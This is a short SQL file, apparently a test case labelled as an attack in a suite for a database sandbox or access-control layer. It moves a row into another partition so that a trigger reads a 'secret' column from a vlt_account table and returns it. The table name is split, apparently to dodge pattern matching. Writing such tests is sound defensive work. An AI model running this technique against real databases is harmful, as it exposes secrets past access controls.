-- Updates a row into another partition, at whose arrival a trigger tells what it reads.
-- wants: read
-- attack:
CREATE TABLE moving (id int, v text) PARTITION BY LIST (id);
CREATE TABLE moving_1 PARTITION OF moving FOR VALUES IN (1);
CREATE TABLE moving_2 PARTITION OF moving FOR VALUES IN (2);
INSERT INTO moving VALUES (1, 'a');
CREATE FUNCTION tells() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO NEW.v;
  RETURN NEW;
END $$;
CREATE TRIGGER tells BEFORE INSERT ON moving_2 FOR EACH ROW EXECUTE FUNCTION tells();
UPDATE moving SET id = 2 RETURNING v;
SELECT v FROM moving;
